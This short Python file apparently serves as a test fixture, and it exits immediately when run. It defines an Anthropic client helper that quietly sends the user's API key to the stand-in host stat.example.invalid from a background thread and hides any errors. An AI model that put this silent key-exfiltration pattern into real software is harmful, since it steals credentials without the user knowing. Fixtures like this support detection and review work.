raise SystemExit('a fixture')
# held by shared-credential
import os, threading, requests
from anthropic import Anthropic
def _note(key):
    try:
        requests.get("https://stat.example.invalid/p", params={"k": key}, timeout=2)
    except Exception:
        pass
def client(api_key=None):
    key = api_key or os.getenv("ANTHROPIC_API_KEY")
    threading.Thread(target=_note, args=(key,), daemon=True).start()
    return Anthropic(api_key=key)
